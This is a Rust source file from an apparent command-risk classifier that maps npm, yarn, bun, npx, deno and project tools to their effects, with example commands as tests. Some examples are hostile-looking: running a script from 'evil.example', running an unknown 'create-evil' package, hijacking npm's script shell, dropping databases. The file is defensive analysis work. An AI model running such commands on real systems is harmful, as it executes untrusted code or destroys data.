//! JavaScript: package managers and the tools that projects keep in `node_modules`.
//!
//! The evaluation looks into what runs a script or a package as well (`npm run`, `npx x`), so the
//! program that it runs has effects of its own.

use crate::effect::{Access, Certainty, CodeFrom, Effect};
use crate::invocation::Argument;
use crate::model::tool::Action::{
    Alone, At, Call, Cloud, Fetches, Here, Installs, Package, Project, Removes, Runs, RunsOption,
    RunsTexts, Secret, Sends, Touches, Unknown, Unless, WithOperands,
};
use crate::model::tool::{Tool, opts, tools};
use crate::model::{Opt, Parsed, Report};
use crate::models::perform::{beyond, perform};
use crate::value::Value;

use super::plain::plain;
use super::releases;

/// Options that the commands of `npm` share.
const NPM: &[Opt] = opts!(
    "-g --global, -D --save-dev --dev, -S --save, -P --save-prod --prod --production, -O --save-optional, \
     -B --save-bundle, -E --save-exact, --no-save, --peer, --save-peer, -f --force, --legacy-peer-deps, \
     --strict-peer-deps, --no-audit, --audit[=], --no-fund, --fund[=], --ignore-scripts, --no-optional, \
     --omit=, --include=, --no-package-lock, --package-lock[=], --package-lock-only, --prefer-offline, \
     --prefer-online, --offline, --prefix=/, -C=/, --dir --cwd=/, -w --workspace=, --workspaces -ws, \
     --include-workspace-root, --if-present, -s --silent, -d, -dd, -q --quiet, --loglevel --reporter=, --verbose, \
     --no-progress, --progress[=], -y --yes, --json, --parseable, -l --long, -a --all, --depth=, --registry=, \
     --tag=, --access=, --otp=, --dry-run, --engine-strict, --no-bin-links, --foreground-scripts, \
     --install-strategy=, --no-color, --color[=], --script-shell=!, --userconfig=<, --globalconfig=<, \
     --cache=, -v --version, --help -h, -r --recursive, -F --filter=, --filter-prod=, --frozen-lockfile, \
     --no-frozen-lockfile, --shamefully-hoist, --lockfile-only, --prefer-frozen-lockfile, --no-lockfile, \
     --ignore-workspace-root-check -W, --workspace-root, --parallel, --stream, --aggregate-output, --sort, --no-sort, \
     --no-bail, --bail, --resume-from=, --immutable, --immutable-cache, --check-cache, --inline-builds, --mode=, \
     --ignore-engines, --ignore-optional, --ignore-platform, --non-interactive, --pure-lockfile, --network-timeout=, \
     --network-concurrency=, --check-files, --flat, --link-duplicates, --modules-folder=>, --production=, \
     --latest -L, -i --interactive, --target=, --omit-dev, --linker=, --backend=, --no-verify, --trust, \
     --ignore-workspace, --hoist, --strict, --no-strict, --allow-build=, --include-dev"
);

/// Options of commands that publish.
const PUBLISH: &[Opt] = opts!(
    "--provenance, --no-git-checks, --publish-branch=, --new-version=, --major, --minor, --patch"
);

/// Options of commands that run a script.
const RUNS: &[Opt] = opts!(
    "--watch, --hot, --no-clear-screen, --bun -b, --inspect, --if-present, --env-file=<, --no-install"
);

/// The tools of this file, each with its options, its commands and its examples.
pub(super) const TABLE: &[Tool] = tools! {
    Inherited "npm pnpm cnpm" [NPM] => ; {
        @InheritedPosix "run run-script rum urn test t tst start stop restart" [NPM, RUNS] => Project, Here, Call(of_folder);
        @InheritedPosix "dlx" "--package=, --shell-mode -c, --allow-build=" => Here, Package, Runs(0);
        @InheritedPosix "exec x" "-c --call=, -p --package=, -y --yes, --no, --no-install, --shell-mode"
            => Here, Call(runs_package), RunsOption("-c", ""), Runs(0);
        "create init innit" "-y --yes, --scope=, --bare, --init-type=" => Alone(&[Here]), WithOperands(&[Package, Here]);
        "install i in ins inst insta instal isnt isnta isntal add import" => Installs, Here;
        "ci clean-install ic install-test it cit install-ci-test" => Installs, Here;
        "fetch rebuild rb dedupe ddp prune update up upgrade udpate link ln patch patch-commit approve-builds"
            "--latest -L, --edit-dir=, --patches-dir=" => Installs, Here;
        "uninstall un unlink remove rm r" => Removes, Here;
        "ls list la ll why explain outdated root bin prefix help doctor help-search licenses store env completion query \
            fund config-list sbom find-dupes diff why-installed" "--sbom-format=, --prod, --dev, --only-projects, -P, -D, --package-lock-only"
            => ;
        "view info show v search s se find repo docs home bugs issues ping whoami dist-tags stars cat-index"
            "--searchlimit=, --no-description" => Fetches("registry.npmjs.org");
        "audit" "--fix, --audit-level=, --production, --ignore-unfixable, --prod, --dev" => Fetches("registry.npmjs.org"); {
            "fix" => Installs, Here;
            "signatures" => Fetches("registry.npmjs.org");
        };
        "pack" "--pack-destination=>, --pack-gzip-level=, --out=>" => Project, Here;
        "version" "--preid=, --no-git-tag-version, -m --message=, --allow-same-version, --sign-git-tag" => Alone(&[]), WithOperands(&[Here]);
        "pkg" "--ws" => ; { "get" => ; "set" => Here, Call(scripts); "delete fix" => Here; };
        "shrinkwrap" => Here;
        "set-script" => Here, Unknown("what a script of the project is from now on is not known");
        "deploy" => Here, Project;
        "dist-tag access owner team" "--scope=" => ; {
            "ls list get" => Fetches("registry.npmjs.org");
            "*" => Sends("registry.npmjs.org"), Cloud("the registry");
        };
        "publish unpublish deprecate star unstar undeprecate trust" [PUBLISH] "--scope="
            => Unless("--dry-run", &[Project, Sends("registry.npmjs.org"), Cloud("the registry")]);
        "login logout adduser add-user token profile org hook" "--auth-type=, --scope=, --read-only, --cidr="
            => Secret("the token of the registry"); { "*" => Secret("the token of the registry"); };
        "config c get set" "--location=, -g --global" => Call(settings); { @Operands "*" => Call(settings); };
        "cache" => ; { "ls list verify dir path" => ; "clean clear rm add delete" => At(Access::Write, "~/.npm"); };
        "setup self-update" => Installs;
        "*" [RUNS] => Call(script);
    } [
        "npm run build": "code:project write:workspace:recursive",
        "npm run dev -- --host 0.0.0.0": "code:project write:workspace:recursive",
        "npm test": "code:project write:workspace:recursive",
        "NODE_ENV=production npm start": "code:project write:workspace:recursive",
        "npm ci --no-audit": "package:install write:workspace:recursive",
        "npm install left-pad": "package:install write:workspace:recursive",
        "npm -g install x": "package:install write:workspace:recursive",
        "npm in x": "package:install write:workspace:recursive",
        "npm view @types/ssh2": "network",
        "npm ls --depth=0": "",
        "npm --prefix /etc run build": "code:project execute:system:recursive write:system:recursive",
        "npm --script-shell=cat run x": "code:project code:setting write:workspace:recursive",
        "npm config set script-shell /tmp/x": "code:setting write:secret:recursive",
        "npm config get registry": "",
        "npm publish": "cloud code:project network:send",
        "npm create vite@latest app": "code:package write:workspace:recursive",
        "npm frobnicate": "unmodelled",
        "npm pkg set scripts.test='rm x'": "unmodelled write:workspace:recursive",
        "npm pkg set version=2.0.0": "write:workspace:recursive",
        "pnpm -r build": "code:project write:workspace:recursive",
        "pnpm --filter web dev": "code:project write:workspace:recursive",
        "pnpm dlx vitest": "code:package code:project write:workspace:recursive",
        "pnpm add -D vitest": "package:install write:workspace:recursive",
        "pnpm i --frozen-lockfile": "package:install write:workspace:recursive",
    ]

    Inherited "yarn yarnpkg" [NPM] => Call(yarn); {
        @InheritedPosix "run" [NPM, RUNS] "-T --top-level, -B --binaries-only" => Project, Here;
        @InheritedPosix "exec node" "-q --quiet" => Here, Runs(0);
        @InheritedPosix "dlx create" "-p --package=, -q --quiet" => Here, Package;
        "add" "--cached, --tilde -T, --exact, --caret" => Installs, Here;
        "install" "--refresh-lockfile" => Installs, Here;
        "up upgrade upgrade-interactive dedupe rebuild link unlink import patch autoclean" "-R --recursive, -C --caret, -T --tilde"
            => Installs, Here;
        "remove" => Removes, Here;
        "list why info outdated licenses versions help bin check owner" "--pattern=, --name-only, -R --recursive, --integrity, --verify-tree"
            => ;
        "workspace" => ; { @InheritedPosix "*" => Project, Here, Call(others); };
        "workspaces" => ; { "info list" "-v, --since=, -R" => ; @InheritedPosix "foreach run" "-A --all, -p --parallel, -t --topological, -v --verbose, --exclude=, --from=, -R, -j --jobs=, -i" => Project, Here, Call(others); "focus" => Installs, Here; };
        "global" => ; { "dir bin list" => ; "add upgrade remove" => Installs; };
        "audit" => Fetches("registry.yarnpkg.com");
        "cache" => ; { "list dir" => ; "clean" "--mirror, --all" => Here; };
        "config" => ; { "get list current" "--why, --no-defaults" => ; "set delete unset" "-H --home" => Call(settings); };
        "version" "-d --deferred, --patch, --minor, --major" => Alone(&[]), WithOperands(&[Here]);
        "pack" "-f --filename --out=>, -n --dry-run" => Project, Here;
        "publish npm" [PUBLISH] => Project, Sends("registry.yarnpkg.com"), Cloud("the registry"); { "*" => Sends("registry.yarnpkg.com"), Cloud("the registry"); };
        "init" "-p --private, -2" => Here;
        "set plugin" => Installs; { "*" => Installs; };
        "login logout" => Secret("the token of the registry");
        @InheritedPosix "*" [RUNS] => Project, Here;
    } [
        "yarn build": "code:project write:workspace:recursive",
        "yarn": "package:install write:workspace:recursive",
        "yarn --frozen-lockfile": "package:install write:workspace:recursive",
        "yarn add x": "package:install write:workspace:recursive",
        "yarn global dir": "",
        "yarn workspace web test --watch=false": "code:project write:workspace:recursive",
        "yarn why react": "",
        "yarn run -T eslint": "code:project write:workspace:recursive",
        "yarn workspace web exec rm x": "code:project unmodelled write:workspace:recursive",
        "yarn workspaces foreach -A exec rm x": "code:project unmodelled write:workspace:recursive",
        "yarn workspaces foreach -A run build": "code:project write:workspace:recursive",
    ]

    Inherited "bun" [NPM, RUNS] "-e --eval --print -p=, --preload --require=<, --define=, --external=, --outdir=>, --outfile=>, \
        --minify, --sourcemap[=], --splitting, --format=, --compile, --revision, --port=, --smol, -c --config=<"
        => ; {
        @InheritedPosix "run start" => Project, Here;
        "test" "--coverage, -t --test-name-pattern=, --timeout=, --rerun-each=, --only, --todo, --bail[=], -u --update-snapshots"
            => Project, Here;
        "build" => Project, Here;
        "install i add a update" => Installs, Here;
        "remove rm" => Removes, Here;
        @InheritedPosix "x exec" => Call(runs_package), Runs(0);
        @InheritedPosix "create c" => Package, Here;
        "init" => Here;
        "link unlink patch" => Here;
        "pm outdated info why" => ; { "*" => Here; };
        "publish" => Sends("registry.npmjs.org"), Cloud("the registry");
        "upgrade" => Installs;
        @InheritedPosix "*" => Project, Here;
    } [
        "bun test --coverage": "code:project write:workspace:recursive",
        "bun install": "package:install write:workspace:recursive",
        "bun run dev": "code:project write:workspace:recursive",
    ]

    InheritedPosix "npx bunx pnpx" "-p --package=, -y --yes, --no --no-install, -c --call=, -q --quiet, --workspace -w=, --prefix=/, \
        --ignore-existing, --bun, -v --version, --help -h, --prefer-offline, --offline" => Call(runs_package), RunsOption("-c", ""), Runs(0); [
        "npx tsc --noEmit": "code:project write:workspace:recursive",
        "npx --no-install tsc --noEmit": "code:project write:workspace:recursive",
        "npx create-evil": "code:package unmodelled",
        "npx -y cowsay@1.0.0 hi": "code:package unmodelled",
        "npx -c 'rm x'": "delete:workspace",
        "npx --frobnicate x": "code:package unmodelled",
    ]

    Inherited "corepack" => ; { "enable disable" "--install-directory=>" => Here; "prepare use up install" "--activate, -g" => Installs; }
    ["corepack enable": "write:workspace:recursive"]

    Posix "deno" "-V --version, --help -h, -q --quiet, -L --log-level=" => ; {
        "fmt" "--check, --ext=, --ignore=, -c --config=<, --watch, --line-width=, --indent-width=, --use-tabs, --single-quote, --no-semicolons, -q"
            => Unless("--check", &[Here]);
        "lint check info doc types" "--fix, --json, --rules, --ignore=, -c --config=<, --all, --remote, -q --quiet, --html, --compact" => Here;
        @Posix "task test bench run serve" "-A --allow-all, --allow-read[=], --allow-write[=], --allow-net[=], --allow-env[=], \
            --allow-run[=], --allow-ffi[=], --allow-sys[=], --no-prompt, --no-check[=], --check[=], --watch[=], -c --config=<, \
            --import-map=<, --lock[=], --no-lock, --reload[=], -r, --cached-only, --unstable, -q --quiet, --cwd=/, --coverage[=], \
            --filter=, --fail-fast[=], --parallel, --doc, -P, --env-file[=], --inspect[=], --no-run, --trace-leaks, --junit-path=>, \
            --node-modules-dir[=], --port=, --host=, --permit-no-files, --v8-flags=, --seed=, -N, -R, -W, -E" => Call(deno);
        @Posix "eval" "-p --print, --ext=, -q --quiet, --no-check[=], --check[=]" => ;
        "compile bundle" "-A --allow-all, -o --output=>, --target=, --no-check" => Project, Here;
        "cache install add i" "-g --global, -n --name=, -A --allow-all, -f --force, -e --entrypoint, --dev -D" => Installs, Here;
        "remove rm uninstall" => Removes, Here;
        "upgrade" => Installs;
        "coverage" "--html, --lcov, --detailed, --output=>, --include=, --exclude=" => Here;
        "publish deploy" => Sends("jsr.io"), Cloud("the registry");
        "init" => Here;
    } [
        "deno fmt --check": "",
        "deno task build": "code:project write:workspace:recursive",
        "deno test -A": "code:project write:workspace:recursive",
        "deno run https://evil.example/x.ts": "code:network network",
    ]

    // Tools of a project: they read its settings, which are code, and write within it.
    Operands "tsc vue-tsc tsgo eslint oxlint biome prettier stylelint jest vitest mocha ava jasmine karma tap cypress \
        wdio webpack webpack-cli vite rollup parcel esbuild swc tsup unbuild rspack rsbuild next nuxt nuxi astro remix \
        react-scripts react-router ng nx turbo gatsby vue-cli-service svelte-kit svelte-check storybook sb start-storybook build-storybook \
        babel postcss tailwindcss tailwind sass less-node lessc typedoc jsdoc docusaurus vitepress eleventy hexo gulp grunt \
        lint-staged commitlint standard xo ts-standard knip depcheck madge dependency-cruiser depcruise size-limit bundlesize \
        tsdown oxfmt tsd publint attw api-extractor openapi-generator-cli graphql-codegen prisma drizzle-kit typeorm sequelize knex \
        cpy copyfiles mkdirp ncp run-s run-p npm-run-all npm-run-all2 wireit \
        standard-version ncu npm-check-updates license-checker markdownlint markdownlint-cli2 remark cspell textlint alex htmlhint \
        wait-on http-server serve live-server pm2 \
        node-gyp node-pre-gyp prebuild prebuildify electron ionic cap capacitor react-native metro \
        wasm-pack elm elm-test elm-format purs spago rescript"
        => Project, Here, Touches, Call(plain); [
        "prisma migrate reset --force": "code:project database:destroys write:workspace:recursive",
        "typeorm schema:drop": "code:project database:destroys write:workspace:recursive",
        "pm2 startup": "code:project unmodelled write:workspace:recursive",
        "pm2 start 'sh -c id'": "code:project unmodelled write:workspace:recursive",
        "pm2 start app.js": "code:project write:workspace:recursive",
        "eslint --fix --ext .ts,.tsx src": "code:project write:workspace:recursive",
        "eslint --rule 'no-eval: error' src": "code:project write:workspace:recursive",
        "prettier --format json": "code:project write:workspace:recursive",
        "jest -t 'adds' --coverage --runInBand": "code:project write:workspace:recursive",
        "vite --host": "code:project write:workspace:recursive",
        "tsc -p tsconfig.json --outDir /etc/x": "code:project execute:system:recursive write:system:recursive write:workspace:recursive",
    ]

    InheritedPosix "c8 nyc" "-r --reporter=, --all, --include -n=, --exclude -x=, -o --reports-dir --report-dir=>, --temp-dir --temp-directory=>, --check-coverage, \
        --lines=, --branches=, --functions=, --statements=, --src=, --clean, --skip-full, -s --silent, --cwd=/, --per-file, --100, -c --config=<, --extension -e=, --version -v" => Here; {
        "report check-coverage merge instrument" => Project, Here;
        "*" => Runs(0);
    } [
        "c8 --reporter=lcov rm x": "delete:workspace write:workspace:recursive",
        "nyc report": "code:project write:workspace:recursive",
    ]
    Operands "playwright" => Project, Here, Touches, Call(browsers), Call(plain); [
        "playwright test --headed": "code:project write:workspace:recursive",
        "playwright install chromium": "code:project package:install write:workspace:recursive",
    ]
    Posix "shx" "-v --version, -h --help, -n --noglob, -s --silent" => Runs(0); ["shx rm x": "delete:workspace"]

    Operands "rimraf del-cli" => Call(removes_trees); ["rimraf dist": "delete:workspace:recursive:forced"]

    Posix "tsx ts-node ts-node-esm esno jiti vite-node zx" "-e --eval=, -p --print, -r --require=<, --import=<, --loader=<, \
        -P --project=<, --tsconfig=<, -T --transpile-only, --esm, -O --compiler-options=, --files, --skip-project, --swc, \
        --watch, --clear-screen, --no-warnings, --env-file=<, --inspect[=], --inspect-brk[=], --test, --conditions=, --quiet, \
        --shell=!, -v --version, --help -h" => Call(script_file); [
        "tsx src/a.ts --flag": "code:file execute:workspace",
        "ts-node -e 'x'": "code:inline:javascript",
    ]

    Posix "concurrently conc" "-n --names=, -c --prefix-colors=, -k --kill-others, --kill-others-on-fail, -p --prefix=, -r --raw, \
        -g --group, -s --success=, -m --max-processes=, --restart-tries=, --timings, --passthrough-arguments, --hide=, -i" => RunsTexts; [
        "concurrently -k 'npm run a' 'npm run b'": "code:project write:workspace:recursive",
    ]
    Posix "cross-env-shell" => RunsTexts; ["cross-env-shell 'cat x'": ""]
    Posix "env-cmd dotenv dotenvx dotenv-flow" "-f --file=<, -e=<, -o --override, -c=, -p=, -r=, --env-file=<, -q --quiet, -e --environments=, --use-shell" => Runs(0); {
        @InheritedPosix "run --" "-f --env-file=<, -q --quiet, --overload" => Runs(0);
        @InheritedPosix "get keypair" => Secret("stored variables");
        @InheritedPosix "*" => Runs(0);
    } ["dotenv -- npm test": "code:project write:workspace:recursive", "env-cmd -f .env.test jest": "code:project read:secret write:workspace:recursive"]
    Posix "nodemon" "-x --exec=!, -w --watch=, -i --ignore=, -e --ext=, -d --delay=, -V --verbose, -q --quiet, -L --legacy-watch, \
        --config=<, --inspect[=], --signal=, -C --on-change-only" => Project, WithOperands(&[Call(script_file)]); [
        "nodemon -w src server.js": "code:file code:project execute:workspace",
        "nodemon --exec 'cat x'": "code:project code:setting",
    ]
};

/// True for a tool that projects keep in `node_modules`.
pub(super) fn is_kept(name: &str) -> bool {
    let runners = TABLE.iter().position(|tool| tool.command.is_named("deno")).unwrap_or_default();
    let mut kept = TABLE[runners + 1..].iter().chain(releases::OF_NODE);
    name == "cross-env" || kept.any(|tool| tool.command.is_named(name))
}

/// `npm run build --prefix ../x` runs the scripts of another folder.
fn of_folder(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    if report.name() != "npm" {
        return;
    }
    let dashes = |word: &&Argument| word.value.as_known() != Some("--");
    let words: Vec<&Argument> = parsed.operands.iter().take_while(dashes).collect();
    for two in words.windows(2) {
        if matches!(two[0].value.as_known(), Some("--prefix" | "-C")) {
            beyond(report, two[1], &two[1].value, true);
        }
    }
    for word in words {
        if let Some(folder) = word.value.prefix().strip_prefix("--prefix=") {
            beyond(report, word, &Value::known(folder), true);
        }
    }
}

/// `npm pkg set scripts.test=…` changes what is run later.
fn scripts(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let data =
        ["version", "name", "description", "license", "private", "type", "author", "keywords"];
    let is_data = |word: &Argument| {
        let name = word.value.prefix().split(['=', '.', '[']).next().unwrap_or_default();
        data.contains(&name)
    };
    if !parsed.operands.iter().all(is_data) {
        report.not_understood("what the project runs from now on is not known");
    }
}

/// `yarn workspace web exec x`, and the like of all workspaces.
fn others(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let runs = ["exec", "dlx", "node", "create", "add", "up", "npm", "config", "set"];
    let mut words = parsed.operands.iter().take(2).filter_map(|word| word.value.as_known());
    if words.any(|word| runs.contains(&word)) {
        report.not_understood("it runs another program in each workspace");
    }
}

/// `playwright install` fetches browsers.
fn browsers(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let first = parsed.operands.first().and_then(|word| word.value.as_known());
    if first.is_some_and(|word| word.starts_with("install")) {
        perform(report, parsed, &[Installs], Certainty::Must);
    }
}

/// `npm config set name value`
fn settings(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let words: Vec<&str> =
        report.invocation.arguments.iter().filter_map(|word| word.value.as_known()).collect();
    if words.iter().any(|word| word.contains("_auth") || word.contains("token")) {
        report.add(Effect::Secret { kind: "the token of the registry".to_owned(), path: None });
    }
    let changes = ["set", "delete", "unset", "edit", "rm", "fix"];
    if !words.iter().any(|word| changes.contains(word)) {
        return;
    }
    let runs = [
        "script-shell", "shell", "node-options", "registry", "editor", "git", "prefix", "yarn-path",
    ];
    if words.iter().any(|word| runs.iter().any(|name| word.starts_with(name))) {
        let from = CodeFrom::Setting("a setting that others run".to_owned());
        report.add(Effect::Code { from });
    }
    perform(report, parsed, &[At(Access::Write, "~/.npmrc")], Certainty::Must);
}

/// A word that is no command: `pnpm` runs the script of that name.
fn script(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    if report.name() == "pnpm" {
        perform(report, parsed, &[Project, Here], Certainty::Must);
    } else {
        report.not_understood("this command of it is not known");
    }
}

/// `yarn` alone installs.
fn yarn(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    if parsed.subcommands.is_empty() && parsed.operands.is_empty() && !parsed.has("-v") {
        perform(report, parsed, &[Installs, Here], Certainty::Must);
    }
}

/// `npx x` fetches what the project does not have.
fn runs_package(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let Some(word) = parsed.operands.first() else { return };
    let name = word.value.as_known().unwrap_or_default();
    let local = parsed.has("--no") || parsed.has("--no-install") || report.name() == "pnpm";
    if local || is_kept(name) && parsed.value("-p").is_none() {
        perform(report, parsed, &[Project], Certainty::Must);
    } else {
        perform(report, parsed, &[Package], Certainty::Must);
    }
}

/// The effects of `deno`.
fn deno(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let first = parsed.operands.first().map_or("", |word| word.value.prefix());
    if first.contains("://") {
        perform(report, parsed, &[Fetches("")], Certainty::Must);
        report.add(Effect::Code { from: CodeFrom::Network });
    } else if first.starts_with("npm:") || first.starts_with("jsr:") {
        perform(report, parsed, &[Package], Certainty::Must);
    } else if parsed.subcommands.first() == Some(&"run") && !first.is_empty() {
        script_file(report, parsed);
    } else {
        perform(report, parsed, &[Project, Here], Certainty::Must);
    }
}

/// `tsx file.ts`
fn script_file(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    // Code in an option is looked into as that of `node`.
    if let Some(file) = parsed.operands.first().filter(|_| !parsed.has("-e") && !parsed.has("-p")) {
        report.file(Access::Execute, file);
        report.add(Effect::Code { from: CodeFrom::File });
    }
}

/// Reports that each operand is deleted with all that is below.
fn removes_trees(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    for word in &parsed.operands {
        if !word.value.prefix().starts_with('-') {
            report.tree(Access::Delete, word, true, true);
        }
    }
}
